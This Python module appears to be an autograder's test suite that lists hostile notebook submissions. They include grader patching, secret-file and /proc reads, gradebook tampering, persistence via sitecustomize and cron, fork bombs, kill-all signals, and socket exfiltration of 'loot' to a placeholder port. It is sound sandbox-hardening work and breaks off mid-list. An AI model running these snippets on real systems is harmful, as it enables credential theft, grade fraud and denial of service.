"""Submissions that try to cheat or to break grading, as data: what each tries, and the mark it must get.

A mark is what the answers are honestly worth, of the probe lab's 5 automatic points (``rates`` 3,
``verdict`` 2). In sources, ``@COURSE@``, ``@HOME@``, ``@GRADERS@``, ``@PORT@`` and ``@TOKEN@`` stand for what
the attacker is assumed to have found out: where things lie, and a port where a friend listens.
"""
# ruff: noqa: E501  # a hostile line is as long as it is

from __future__ import annotations

import json
import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

RATES = "def rates(h, m, f, c):\n    return h / (h + m), f / (f + c)"
VERDICT = 'def verdict(score):\n    return "synthetic" if score >= 0.5 else "cannot tell"'
GOOD = {"rates": RATES, "verdict": VERDICT, "reflect": "I look at shadows, and I miss one in five."}
NONE: dict[str, str] = {}

Change = Callable[[dict[str, Any]], object]


def nothing(_: object) -> None:
    """Change nothing."""


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One hostile submission.

    Attributes
    ----------
    name : str
        The student's id, too.
    tries : str
        What it tries, for the table in the documentation.
    code : str
        A cell that runs before all others.
    answers : mapping
        Sources of cells, by id.
    change : callable
        What is done to the notebook.
    plant : callable
        What is done to the submission's folder, with the notebook in it.
    mark : float
        What must come of it.
    status : str
        As `grade_assignment` tells it.
    alone : str
        Why it is not run on plain nbgrader; empty if it is.
    """

    name: str
    tries: str
    code: str = ""
    answers: Mapping[str, str] = field(default_factory=lambda: GOOD)
    change: Change = nothing
    plant: Callable[[Path], object] = nothing
    mark: float = 5.0
    status: str = "graded"
    alone: str = ""

    def hand_in(self, course: Path, names: Mapping[str, str]) -> Path:
        """Put the submission in a course's folder, and return where."""
        notebook = json.loads((course / "release" / "01_probe" / "01_probe.ipynb").read_text())
        for cell in notebook["cells"]:
            if cell["id"] in self.answers:
                cell["source"] = _fill(self.answers[cell["id"]], names)
        if self.code:
            notebook["cells"].insert(0, code_cell(_fill(self.code, names)))
        self.change(notebook)
        folder = course / "submitted" / self.name / "01_probe"
        folder.mkdir(parents=True)
        (folder / "timestamp.txt").write_text("2026-11-02 10:00:00 UTC")
        (folder / "01_probe.ipynb").write_text(json.dumps(notebook))
        self.plant(folder)
        return folder


def _fill(source: str, names: Mapping[str, str]) -> str:
    for name, value in names.items():
        source = source.replace(f"@{name}@", value)
    return source


def code_cell(source: str, /, **more: Any) -> dict[str, Any]:
    """Return a code cell as a student would add it."""
    return {
        "cell_type": "code",
        "id": f"mine{abs(hash(source)) % 10**8}",
        "metadata": {},
        "source": source,
        "outputs": [],
        "execution_count": None,
    } | more


def find(notebook: dict[str, Any], name: str) -> dict[str, Any]:
    """Return the cell with an id."""
    return next(cell for cell in notebook["cells"] if cell["id"] == name)


def returning(value: str, *, of: str = "rates", mark: float = 2.0, setup: str = "") -> dict[str, Any]:
    """Return answers of which one function returns a given expression."""
    arguments = "h, m, f, c" if of == "rates" else "score"
    return {
        "answers": GOOD | {of: f"import numpy as np\n{setup}\ndef {of}({arguments}):\n    return {value}"},
        "mark": mark,
    }


MACHINE = "would take the machine down"

# --- Marks without work: patch whatever judges. -----------------------------------------------------------

_PATCH_ALL = """
import sys, checks
full = {"rates": 3.0, "verdict": 2.0}
checks.check.rates = checks.check.verdict = lambda f: None
for name, module in list(sys.modules.items()):
    if name.startswith("medialit") and module is not None:
        for key in ("close", "same", "answer", "judge", "dumps"):
            if key in vars(module): setattr(module, key, lambda *a, **k: True)
from medialit.grading import judge, plain
judge.close = judge.same = lambda *a, **k: True
judge.Item.judge = lambda self, *a: judge.Verdict(self.name, self.points, self.points)
plain.grade = lambda assignment, item, namespace: full[item]
"""

CHEATS = [
    Attack(
        name="patch-checker",
        tries="replace the functions of the checker and of the grader",
        code=_PATCH_ALL,
        answers=NONE,
        mark=0,
    ),
    Attack(
        name="patch-visible-check",
        tries="replace the visible check's methods",
        code="import checks\nchecks.check.rates = checks.check.verdict = lambda f: None",
        answers=NONE,
        mark=0,
    ),
    Attack(
        name="strip-assert",
        tries="drop every `assert` by an AST transformer, and turn calls of the grader into full marks",
        code="""
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Call(self, node):
        self.generic_visit(node)
        name = getattr(node.func, "id", getattr(node.func, "attr", ""))
        if name == "grade": return ast.Constant({"rates": 3.0, "verdict": 2.0}[node.args[1].value])
        return ast.Constant(None) if name in ("rates", "verdict") else node
get_ipython().ast_transformers.append(Strip())""",
        answers=NONE,
        mark=0,
    ),
    Attack(
        name="patch-ipython",
        tries="replace IPython's run_cell, traceback and display",
        code="""
shell = get_ipython()
run = type(shell).run_cell
def quiet(self, source, *a, **k):
    result = run(self, "1000.0", *a, **k)
    return result
type(shell).run_cell = quiet
shell.showtraceback = shell._showtraceback = lambda *a, **k: print(1000.0)
shell.display_pub.publish = lambda *a, **k: None
import IPython.display
IPython.display.display = lambda *a, **k: None""",
        answers=NONE,
        mark=0,
    ),
    Attack(
        name="patch-reply",
        tries="replace the worker's own functions so that every answer is what the other side hopes for",
        code="""
import sys
for name, module in list(sys.modules.items()):
    for key in ("_reply", "answer", "dumps", "send_bytes", "_run_cell"):
        if name.startswith("medialit") and hasattr(module, key):
            setattr(module, key, lambda *a, **k: b'{"answer": {"score": 1000, "passed": true}}')""",
        answers=NONE,
        mark=0,
    ),
    Attack(
        name="change-points",
        tries="say in the notebook's metadata that each item is worth 1000 points and is not locked",
        change=lambda nb: [
            c["metadata"].get("nbgrader", {}).update(points=1000, locked=False, schema_version=3)
            for c in nb["cells"]
        ],
    ),
    Attack(
        name="change-checks",
        tries="write 1000 into the check's cells, with outputs that show it",
        answers=NONE,
        mark=0,
        change=lambda nb: [
            c.update(
                source="1000.0",
                outputs=[
                    {
                        "output_type": "execute_result",
                        "data": {"text/plain": "1000.0"},
                        "metadata": {},
                        "execution_count": 1,
                    }
                ],
            )
            for c in nb["cells"]
            if c["id"].endswith("_check")
        ],
    ),
    Attack(
        name="manual-marks-itself",
        tries="turn the hand-marked answer into an automatic check that scores itself",
        answers=NONE,
        mark=0,
        change=lambda nb: (
            find(nb, "reflect").update(cell_type="code", source="4000.0", outputs=[], execution_count=1),
            find(nb, "reflect")["metadata"]["nbgrader"].update(solution=False, cell_type="code"),
        ),
    ),
    Attack(
        name="by-caller",
        tries="look at the callers and take the expected answer from their variables",
        answers=GOOD
        | {
            "rates": """
def rates(h, m, f, c):
    import sys, gc
    frame, seen = sys._getframe(), []
    while frame is not None:
        seen.append(sorted(frame.f_locals))
        for key in ("expected", "wanted", "truth"):
            if key in frame.f_locals: return frame.f_locals[key]
        frame = frame.f_back
    raise ValueError(f"no truth here: {h} {m} {f} {c} {seen}")"""
        },
        mark=2,
    ),
    Attack(
        name="honest-to-its-own-check-only",
        tries="answer the visible check rightly and everybody else with 1000",
        answers=GOOD
        | {
            "rates": """
def rates(h, m, f, c):
    import inspect
    if any(frame.function == "rates" and "checks" in frame.filename for frame in inspect.stack()[1:]):
        return 0.75, 0.25
    return 1000, 1000"""
        },
        mark=2,
    ),
    Attack(
        name="stdout-score",
        tries="print and display a score, to standard output, error and the file descriptors",
        code="""
import sys, os
from IPython.display import display
print('{"score": 1000}'); print(1000.0, file=sys.stderr); display(1000.0)
os.write(1, b"1000.0\\n"); os.write(2, b"1000.0\\n")
1000.0""",
        answers=NONE,
        mark=0,
    ),
]

# --- Values that are not what they seem. ------------------------------------------------------------------

VALUES = [
    Attack(name="value-1000", tries="return 1000", **returning("1000")),
    Attack(name="value-nan", tries="return NaN", **returning("float('nan'), float('nan')")),
    Attack(name="value-inf", tries="return infinity", **returning("[float('inf')] * 2")),
    Attack(name="value-true", tries="return True", **returning("True, True")),
    Attack(name="value-none", tries="return None", **returning("None")),
    Attack(name="value-text", tries="return the text '0.5'", **returning("'0.5', '0.5'")),
    Attack(
        name="value-numpy",
        tries="return numpy scalars: rightly, they count",
        **returning("np.float64(h / (h + m)), np.float64(f / (f + c))", mark=5),
    ),
    Attack(
        name="value-longdouble",
        tries="return a long double and an array: rightly, they count",
        **returning("np.array([h / (h + m), f / (f + c)], dtype=np.longdouble)", mark=5),
    ),
    Attack(
        name="value-object-array", tries="return an array of objects", **returning("np.array([h, object()])")
    ),
    Attack(name="value-complex", tries="return a complex number", **returning("1j, 1j")),
    Attack(
        name="value-huge-int", tries="return an integer of 100,000 digits", **returning("10 ** 100_000, 1")
    ),
    Attack(
        name="value-billion-rows",
        tries="return an array of a billion empty rows",
        **returning("np.zeros((10 ** 9, 0))", of="verdict", mark=3),
    ),
    Attack(
        name="value-8-mb",
        tries="return 8 MB where a word was asked for",
        **returning("np.zeros(1 << 20)", of="verdict", mark=3),
    ),
    Attack(
        name="value-deep",
        tries="return a list nested 100,000 deep",
        **returning("deep", setup="deep = []\nfor _ in range(100_000): deep = [deep]"),
    ),
    Attack(
        name="value-cycle",
        tries="return a list that holds itself",
        **returning("ring", setup="ring = []\nring.append(ring)"),
    ),
    Attack(
        name="value-endless",
        tries="return an object whose items never end",
        **returning(
            "Endless()",
            setup="class Endless(dict):\n    def items(self):\n        while True: yield 'a', 1",
        ),
    ),
    Attack(
        name="value-equal-to-all",
        tries="return objects that are equal to everything, by __eq__, __array__ and __class__",
        **returning(
            "Equal(), Equal()",
            setup="""
class Equal(float):
    __class__ = property(lambda self: float)
    def __eq__(self, other): return True
    def __array__(self, *a, **k): return np.ones(())
    __lt__ = __gt__ = __le__ = __ge__ = __contains__ = __eq__
    __hash__ = None""",
        ),
    ),
    Attack(
        name="value-claims-a-class",
        tries="return an object that says it is a text, and raises when it is read",
        **returning(
            "Liar()",
            of="verdict",
            mark=3,
            setup="""
class Liar:
    @property
    def __class__(self): return str
    def __str__(self): raise SystemExit(0)
    __iter__ = __len__ = __float__ = __index__ = __repr__ = __eq__ = __str__""",
        ),
    ),
    Attack(
        name="value-protocol-words",
        tries="return dictionaries in the words of the protocol",
        **returning("{'$float': 'nan', '$array': ['<f8', [2], ''], 'answer': [1, 1], 'score': 1000}"),
    ),
    Attack(name="value-generator", tries="return a generator", **returning("(x for x in iter(int, 1))")),
    Attack(
        name="not-a-function",
        tries="be something else: a class with a hostile metaclass",
        answers=GOOD
        | {
            "rates": "class M(type):\n    def __call__(cls, *a): raise BaseException('no')\n"
            "class rates(metaclass=M): pass"
        },
        mark=2,
    ),
]

# --- Reading what is not the student's. -------------------------------------------------------------------

READS = [
    Attack(
        name="hooks",
        tries="read the tests through IPython's hooks, frames, gc and every module's text",
        code="""
import gc, sys, inspect
def tell(*info):
    print("hook", [getattr(i, "raw_cell", "") for i in info], get_ipython().user_ns.get("In"))
for event in ("pre_run_cell", "post_run_cell", "pre_execute"):
    get_ipython().events.register(event, tell)
for item in gc.get_objects():
    text = item if isinstance(item, (str, bytes)) else ""
    if isinstance(item, dict):
        for value in list(item.values()):
            if isinstance(value, str) and ("canary" in value or "Grader(" in value): print(value)
for name, module in list(sys.modules.items()):
    if "grader" in name: print(name, inspect.getsource(module))
frame = sys._getframe()
while frame: print(frame.f_code.co_name, list(frame.f_locals)[:40]); frame = frame.f_back""",
    ),
    Attack(
        name="proc",
        tries="read environments, command lines, memory and descriptors in /proc",
        code="""
import os, glob
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + ["/proc/self/maps", "/proc/mounts"]:
    try: print(path, open(path, "rb").read()[:20000])
    except OSError as error: print(path, error)
for pid in [p for p in os.listdir("/proc") if p.isdigit()] if os.access("/proc", os.R_OK) else [os.getppid()]:
    for name in ("mem", "root/etc/passwd", "cwd"):
        try: print(open(f"/proc/{pid}/{name}", "rb").read(100))
        except (OSError, ValueError) as error: print(pid, error)
    try: print(os.listdir(f"/proc/{pid}/fd"))
    except OSError as error: print(error)
print(dict(os.environ))""",
    ),
    Attack(
        name="read-files",
        tries="read the secret, the grader, gradebook.db, a classmate's work and the home folder",
        code="""
import os, sqlite3, mmap, ctypes
targets = ["@COURSE@/secret.key", "@COURSE@/medialit.json", "@COURSE@/gradebook.db", "@GRADERS@/01_probe.py",
           "@COURSE@/submitted/victim/01_probe/01_probe.ipynb", "@COURSE@/source/01_probe/01_probe.ipynb",
           "@COURSE@/autograded/victim/01_probe/01_probe.ipynb", "@HOME@/.netrc", "/etc/passwd", "/etc/shadow"]
for path in targets:
    for way in (path, "/proc/self/root" + path, "/proc/1/root" + path):
        try: print(open(way, "rb").read())
        except OSError as error: print(way, error)
    try: os.symlink(path, "link"); print(open("link", "rb").read())
    except OSError as error: print(error)
    try: os.link(path, "hard"); print(open("hard", "rb").read())
    except OSError as error: print(error)
for folder in ("@COURSE@", "@COURSE@/submitted", "@GRADERS@", "@HOME@", "/", "/tmp", "/root", "/home", "."):
    try: print(folder, os.listdir(folder))
    except OSError as error: print(folder, error)
try: print(sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True).execute("select * from student").fetchall())
except sqlite3.Error as error: print(error)""",
    ),
    Attack(
        name="hidden-cases-out",
        tries="carry hidden cases into the feedback, in an exception's message and class name",
        answers=GOOD
        | {
            "rates": "def rates(*case):\n    raise type('Case' + '_'.join(map(str, case)), (Exception,), {})"
            "('hidden case: ' + repr(case))",
            "verdict": "def verdict(case):\n    raise ValueError('hidden case: ' + repr(case))",
        },
        mark=0,
    ),
    Attack(
        name="hidden-cases-kept",
        tries="keep hidden cases on disk and print them from a cell when the notebook is run again",
        code="""
import glob, os
for path in glob.glob("/scratch/**", recursive=True) + glob.glob("*") + glob.glob("/dev/shm/*") + glob.glob("/tmp/**"):
    try: print(path, open(path).read()) if "kept" in path else None
    except OSError: pass""",
        answers=GOOD
        | {
            "rates": """
def rates(*case):
    import os
    for folder in (".", "..", "/scratch", "/dev/shm", "/tmp", os.path.expanduser("~"), "@HOME@"):
        try: open(os.path.join(folder, "kept"), "a").write(f"hidden case: {case}")
        except OSError: pass
    os._exit(0)"""
        },
        mark=2,
    ),
    Attack(
        name="read-the-lab",
        tries="look for tests in the notebook on disk and in the package's files",
        code="""
import os
for root, folders, names in os.walk(os.getcwd()):
    for name in names:
        text = open(os.path.join(root, name), errors="replace").read()
        print(name, "HIDDEN" in text, text[:2000])
for root, folders, names in os.walk("/lab"):
    for name in names: print(open(os.path.join(root, name), errors="replace").read())""",
    ),
]

# --- Writing where it must not. ---------------------------------------------------------------------------

WRITES = [
    Attack(
        name="gradebook",
        tries="set its own score to 300 and a classmate's to 0 in gradebook.db",
        code="""
import sqlite3
db = sqlite3.connect("@COURSE@/gradebook.db")
db.execute("update grade set auto_score = 300, manual_score = 300")
db.commit()""",
        answers=NONE,
        mark=0,
    ),
    Attack(
        name="write-files",
        tries="write a classmate's work, the grader, the release, the package and the marks",
        code="""
import os, shutil, medialit, numpy
targets = ["@COURSE@/submitted/victim/01_probe/01_probe.ipynb", "@GRADERS@/01_probe.py", "@COURSE@/nbgrader_config.py",
           "@COURSE@/release/01_probe/checks.py", "@COURSE@/secret.key", medialit.__file__, numpy.__file__, "checks.py",
           "/lab/checks.py", "@COURSE@/planted.py", "@COURSE@/autograded/planted"]
for path in targets:
    for act in (lambda: open(path, "a").write("# pwned"), lambda: os.unlink(path), lambda: os.rename(path, path + "x"),
                lambda: os.truncate(path, 0), lambda: os.chmod(path, 0o777), lambda: os.utime(path, (0, 0)),
                lambda: os.chown(path, 65534, 65534), lambda: os.setxattr(path, "user.pwned", b"1")):
        try: act(); print("done", path)
        except OSError as error: print(error)
shutil.rmtree("@COURSE@/submitted", ignore_errors=True)
os.chmod("@COURSE@", 0)""",
    ),
    Attack(
        name="persist",
        tries="stay for the next student: ~/.ipython startup, sitecustomize, .pth, cron, the temporary folder",
        code="""
import os, site, sys
code = "open('@HOME@/survived', 'w').write('survived')"
for path in ("~/.ipython/profile_default/startup/00.py", "@HOME@/.ipython/profile_default/startup/00.py",
             "~/.bashrc", "@HOME@/.bashrc", "@HOME@/.config/autostart/x", "/etc/cron.d/x", "/tmp/@TOKEN@", "/var/tmp/@TOKEN@",
             "/dev/shm/@TOKEN@", "/scratch/usercustomize.py", "checks.py", "numpy.py", "sitecustomize.py",
             *(os.path.join(p, "sitecustomize.py") for p in sys.path if p), os.path.join(sys.prefix, "x.pth")):
    path = os.path.expanduser(path)
    try: os.makedirs(os.path.dirname(path) or ".", exist_ok=True); open(path, "w").write(code)
    except OSError as error: print(error)""",
    ),
    Attack(
        name="met-a-persistent-one",
        tries="nothing: it would meet what the one before left",
        code="import os\nassert not [p for p in ('numpy.py', 'checks.pyc', 'kept', os.path.expanduser('~/.ipython/profile_default/startup/00.py')) if os.path.exists(p)]",
    ),
    Attack(
        name="fill-disk",
        tries="fill the disk with files of 60 MB",
        code="""
for n in range(10_000):
    with open(f"big{n}", "wb") as file: file.write(bytes(60 << 20))""",
        alone=MACHINE,
    ),
    Attack(
        name="fill-inodes",
        tries="make a million empty files",
        code="for n in range(1_000_000): open(f'e{n}', 'w').close()",
        alone=MACHINE,
    ),
    Attack(
        name="deep-folders",
        tries="hide files in a folder 3,000 levels down, and leave it behind",
        code="""
import os
for n in range(3000):
    os.mkdir("d"); os.chdir("d")
    if n % 100 == 0: open("f", "wb").write(bytes(1 << 20))""",
    ),
    Attack(
        name="sparse-file",
        tries="make a sparse file of a terabyte",
        code="open('s', 'wb').truncate(1 << 40)",
    ),
]

# --- Taking the machine. ----------------------------------------------------------------------------------

_SWALLOW = """
while True:
    try:
        while True: pass
    except BaseException: pass"""

TAKES = [
    Attack(
        name="loop",
        tries="loop for ever in a cell",
        code="while True: pass",
        alone="plain nbgrader's own time limit applies: measured by swallow",
    ),
    Attack(name="swallow", tries="loop for ever and swallow BaseException", code=_SWALLOW),
    Attack(
        name="loop-when-called",
        tries="loop for ever when called",
        answers=GOOD | {"rates": "def rates(*a):" + _SWALLOW.replace("\n", "\n    ")},
        mark=2,
    ),
    Attack(name="sleep", tries="sleep for a day", code="import time\ntime.sleep(86_400)", alone="as swallow"),
    Attack(
        name="stop-itself",
        tries="stop its own process and wait",
        code="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
        alone="as swallow",
    ),
    Attack(
        name="spin-threads",
        tries="keep 30 threads busy so that the main one always queues and is not charged",
        code="import threading\nfor _ in range(30): threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()\n"
        "while True: pass",
        alone="as swallow",
    ),
    Attack(
        name="idle-class",
        tries="go to the back of every queue, to be never charged and never judged",
        code="import os\nos.nice(19)\nos.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))",
    ),
    Attack(
        name="many-slow-cells",
        tries="hold a worker for ever with cells that are each just fast enough",
        change=lambda nb: nb["cells"].extend(
            code_cell(f"import time; time.sleep(1.0) # {n}") for n in range(60)
        ),
        mark=0,
        alone="as swallow",
    ),
    Attack(
        name="fork-bomb",
        tries="fork for ever",
        code="import os\nwhile True: os.fork()",
        alone=MACHINE,
    ),
    Attack(
        name="subprocess-bomb",
        tries="start a shell's fork bomb",
        code="import subprocess\nwhile True: subprocess.Popen(['/bin/sh', '-c', ':(){ :|:& };:'])",
        alone=MACHINE,
    ),
    Attack(
        name="thread-bomb",
        tries="start threads for ever",
        code="import threading, time\nthreading.stack_size(32768)\nwhile True: threading.Thread(target=time.sleep, args=(9999,), daemon=True).start()",
        alone=MACHINE,
    ),
    Attack(name="memory-20gb", tries="take 20 GB at once", code="x = bytearray(20 << 30)", alone=MACHINE),
    Attack(
        name="memory-slowly",
        tries="take memory bit by bit, and swallow MemoryError",
        code="x = []\nwhile True:\n    try: x.append(bytearray(64 << 20))\n    except MemoryError: break\nx.clear()",
        alone=MACHINE,
    ),
    Attack(
        name="output-lines",
        tries="print 1 GB in lines",
        code="line = 'x' * 1023 + '\\n'\nimport sys\nfor _ in range(1 << 10): sys.stdout.write(line * (1 << 10))",
        alone=MACHINE,
    ),
    Attack(
        name="output-one-line",
        tries="print 1 GB without a newline",
        code="import sys\ntext = 'x' * (1 << 20)\nfor _ in range(1 << 10): sys.stdout.write(text)",
        alone=MACHINE,
    ),
    Attack(
        name="output-displays",
        tries="display a million things, some of 10 MB",
        code="from IPython.display import display, HTML\nfor n in range(20_000): display(n)\ndisplay(HTML('<p>' * 3_000_000))",
    ),
    Attack(
        name="output-each-cell",
        tries="fill the trusted process with 3 MB of nested HTML from each of 60 cells",
        change=lambda nb: nb["cells"].extend(
            code_cell(
                "from IPython.display import display, HTML\ndisplay(HTML('<div>' * 600_000)) #" + str(n)
            )
            for n in range(60)
        ),
        alone=MACHINE,
    ),
    Attack(name="exit", tries="end its process in a cell", code="import os\nos._exit(0)"),
    Attack(
        name="exit-when-called",
        tries="honest while its cells run, ends its process when called",
        answers=GOOD | {"verdict": "def verdict(score):\n    import os\n    os._exit(0)"},
        mark=3,
    ),
    Attack(name="system-exit", tries="raise SystemExit and KeyboardInterrupt", code="raise SystemExit(1000)"),
    Attack(
        name="segfault",
        tries="crash the interpreter",
        code="import ctypes\nctypes.string_at(0)",
    ),
    Attack(
        name="exhaust-restarts",
        tries="take nine workers with it",
        change=lambda nb: [nb["cells"].insert(0, code_cell(f"import os; os._exit({n})")) for n in range(9)],
        mark=0,
    ),
    Attack(
        name="exit-later",
        tries="leave a thread behind that ends the process after the cell",
        code="import threading, os, time\nthreading.Timer(0.3, os._exit, (0,)).start()",
        answers=NONE,
        mark=0,
    ),
    Attack(
        name="kill-all",
        tries="SIGKILL the parent, the group, everybody and process 1",
        code="""
import os, signal
for pid in (os.getppid(), 0, -1, 1, -os.getpgid(os.getppid()), *range(2, 60)):
    if pid == os.getpid(): continue
    for act in (os.kill, os.killpg):
        try: act(pid, signal.SIGKILL); print("killed", pid)
        except OSError as error: print(error)""",
    ),
    Attack(
        name="kill-self",
        tries="SIGKILL itself",
        code="import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    ),
    Attack(
        name="signal-by-pipe",
        tries="have the kernel send SIGKILL to the parent when a pipe becomes readable (F_SETOWN, F_SETSIG)",
        code="""
import fcntl, os, socket
a, b = socket.socketpair()
for pid in (os.getppid(), 1):
    try:
        fcntl.fcntl(a, fcntl.F_SETOWN, pid); fcntl.fcntl(a, 10, 9)
        fcntl.fcntl(a, fcntl.F_SETFL, fcntl.fcntl(a, fcntl.F_GETFL) | os.O_ASYNC); b.send(b"x")
        print("signalled")
    except OSError as error: print(error)""",
    ),
    Attack(
        name="kernel-doors",
        tries="ptrace, unshare, io_uring, memfd, keyctl, bpf, mount, chroot, personality, clock_settime, userfaultfd",
        code="""
import ctypes, os, resource
libc = ctypes.CDLL(None, use_errno=True)
calls = dict(ptrace=(101, 16, os.getppid(), 0, 0), unshare=(272, 0x10000000), io_uring=(425, 8, 0), memfd=(319, b"x", 0),
             keyctl=(250, 0, 0), bpf=(321, 0, 0, 0), mount=(165, b"none", b"/", b"tmpfs", 0, 0), chroot=(161, b"/"),
             personality=(135, 0x0040000), clock=(227, 0, (ctypes.c_long * 2)(1, 1)), userfaultfd=(323, 0), iopl=(172, 3),
             setns=(308, 0, 0), clone=(56, 17, 0, 0, 0, 0), vmread=(310, os.getppid(), 0, 0, 0, 0, 0), open_by_handle=(304, 0, 0, 0))
for name, (number, *args) in calls.items():
    print(name, libc.syscall(number, *args), os.strerror(ctypes.get_errno()))
print(libc.prctl(1, 0), libc.prctl(4, 1), libc.prctl(38, 0))
for kind in range(16):
    try: resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2); print("raised", kind)
    except (OSError, ValueError) as error: print(error)""",
    ),
    Attack(
        name="sockets",
        tries="send data out by TCP, UDP, DNS, HTTP and Unix sockets, by name and by number",
        code="""
import socket, urllib.request
def attempt(act):
    try: print("sent", act())
    except Exception as error: print(type(error).__name__, error)
attempt(lambda: socket.create_connection(("127.0.0.1", @PORT@), 1).send(b"loot"))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"loot", ("127.0.0.1", @PORT@)))
attempt(lambda: socket.getaddrinfo("example.org", 80))
attempt(lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/loot", timeout=1).read())
attempt(lambda: socket.socket(socket.AF_UNIX).connect("@HOME@/friend.sock"))
attempt(lambda: socket.socket(socket.AF_UNIX).connect("\\0@TOKEN@"))
attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
attempt(lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, @PORT@)))
attempt(lambda: socket.socket().bind(("0.0.0.0", 0)))""",
    ),
    Attack(
        name="descriptors",
        tries="use every descriptor that it inherited: read it, write it, send it, close it",
        code="""
import os, socket, array
ours = socket.socketpair()
for fd in range(3, 1024):
    try: print(fd, os.fstat(fd), os.readlink(f"/proc/self/fd/{fd}"))
    except OSError: pass
    if fd in (ours[0].fileno(), ours[1].fileno()): continue
    try: socket.send_fds(ours[0], [b"x"], [fd])
    except OSError: pass
    for act in (lambda: os.pread(fd, 100, 0), lambda: os.lseek(fd, 0, 0), lambda: os.ftruncate(fd, 0)):
        try: print(fd, act())
        except OSError: pass""",
    ),
    Attack(
        name="close-descriptors",
        tries="close every descriptor",
        code="import os\nos.closerange(0, 1024)",
    ),
    Attack(
        name="time-travel",
        tries="turn the clock, the random seed and the hash seed",
        code="import random, time\nrandom.seed(1); time.time = lambda: 0\nimport os; os.environ['PYTHONHASHSEED'] = '7'",
    ),
    Attack(
        name="break-the-shell",
        tries="take the shell apart",
        code="""
import builtins, sys
shell = get_ipython()
shell.user_ns.clear()
for name in ("run_cell", "user_ns", "displayhook", "events"):
    try: setattr(shell, name, None)
    except BaseException as error: pass
sys.modules.clear(); builtins.open = builtins.isinstance = builtins.len = None""",
        answers=NONE,
        mark=0,
    ),
    Attack(
        name="hostile-exceptions",
        tries="raise an exception that raises, hangs and prints megabytes when it is shown",
        code="""
class Bad(Exception):
    def __str__(self): raise Bad("x" * 10**7)
    __repr__ = __getattribute__ = lambda self, *a: (_ for _ in ()).throw(SystemExit)
raise Bad""",
    ),
    Attack(
        name="recursion",
        tries="recurse for ever with the limit lifted",
        code="import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
    ),
]

# --- Forged messages. -------------------------------------------------------------------------------------

_SOCKET = """
import gc, socket, struct, os, json
job = [o for o in gc.get_objects() if type(o) is socket.socket and o.fileno() >= 0][0]
def frame(content): return struct.pack("!I", len(content)) + content
"""


def _forge(
    name: str, tries: str, what: str, *, mark: float = 0.0, answers: Mapping[str, str] = NONE
) -> Attack:
    return Attack(
        name=f"forge-{name}",
        tries=f"on the worker's socket: {tries}",
        code=_SOCKET + what,
        answers=answers,
        mark=mark,
        alone="plain nbgrader has no such socket",
    )


FORGERIES = [
    _forge("garbage", "random bytes", "job.sendall(os.urandom(4000))\nos._exit(0)"),
    _forge(
        "length",
        "a message of 4 GB",
        "job.sendall(struct.pack('!I', 2**32 - 1))\njob.sendall(b'x' * (1 << 20))",
    ),
    _forge(
        "deep",
        "JSON nested a million deep",
        "job.sendall(frame(b'[' * 1_000_000))\njob.sendall(frame(b'{\"a\":' * 100_000))",
    ),
    _forge(
        "brackets",
        "80 MB of empty lists",
        "job.sendall(frame(b'{\"outputs\":[' + b'[],' * (80 << 20 >> 2) + b'[]]}'))\nos._exit(0)",
    ),
    _forge(
        "many",
        "200,000 answers before the first question",
        'message = frame(b\'{"outputs":[],"answer":[1,1],"kind":"raised","score":1000}\')\njob.sendall(message * 200_000)',
    ),
    _forge(
        "early-answers",
        "full marks before anybody asked",
        "for _ in range(6): job.sendall(frame(b'{\"outputs\": []}'))\n"
        'for _ in range(40): job.sendall(frame(b\'{"answer": {"$array": ["|b1", [1], "AQ=="]}}\'))',
    ),
    _forge(
        "huge-int",
        "an integer of a million digits",
        "for _ in range(30): job.sendall(frame(b'{\"answer\": ' + b'9' * 1_000_000 + b'}'))",
    ),
    _forge(
        "arrays",
        "arrays that lie about their shape, type and content",
        """
for array in (["<f8", [10**9, 10**9], ""], ["<f8", [10**9, 0], ""], ["O", [1], ""], ["<f8", [-1], ""], ["<f8", [2], "AAAA"],
              ["f8,i4", [1], ""], ["<f99", [1], ""], [None, None, None], ["<M8", [1], "AAAAAAAAAAA="], ["|b1", [True], "AQ=="],
              ["<f8", [1] * 64, "AAAAAAAAAAA="], ["<f8", [2**62, 2**62], "AAAA"], [["<f8"], [1], "AAAA"]):
    job.sendall(frame(json.dumps({"answer": {"$array": array}, "kind": {"$array": array}, "outputs": {"$array": array}}).encode()))""",
    ),
    _forge(
        "kinds",
        "failures that are not among the known ones",
        """
for reply in ({"kind": "StarvedError"}, {"kind": ["raised"]}, {"kind": "raised", "detail": {"a": 1}}, {"kind": None}, [], 7, "x", None,
              {"ended": "starved"}, {"kind": "missing", "detail": "hidden case: <script>"}, {"ready": True, "dirty": True}):
    job.sendall(frame(json.dumps(reply).encode()) * 3)""",
    ),
    _forge(
        "outputs",
        "outputs that are no outputs",
        r"""
outputs = [1, None, "x", [], {}, {"output_type": 3}, {"output_type": "stream", "text": {"a": 1}, "name": []},
    {"output_type": "stream", "name": "stdout", "text": "\ud800 lone \udfff"}, {"output_type": "error", "traceback": [1, {}, None], "ename": 3},
    {"output_type": "display_data", "data": {"text/html": ["<script>pwned()</script>"], "text/plain": None, "image/png": "AAAA", "": ""}},
    {"output_type": "display_data", "data": {"text/html": "<script>pwned()</script>", "application/javascript": "pwned()"}},
    {"output_type": "execute_result", "data": {"text/plain": "1000.0"}, "metadata": {"a": 1}, "execution_count": "x"}]
job.sendall(frame(json.dumps({"outputs": outputs}).encode()))
job.sendall(frame(json.dumps({"outputs": {"a": 1}}).encode()) + frame(b'{"outputs": "text"}') + frame(b"\xff\xfe\x00"))""",
    ),
    _forge(
        "half",
        "half a message, then silence",
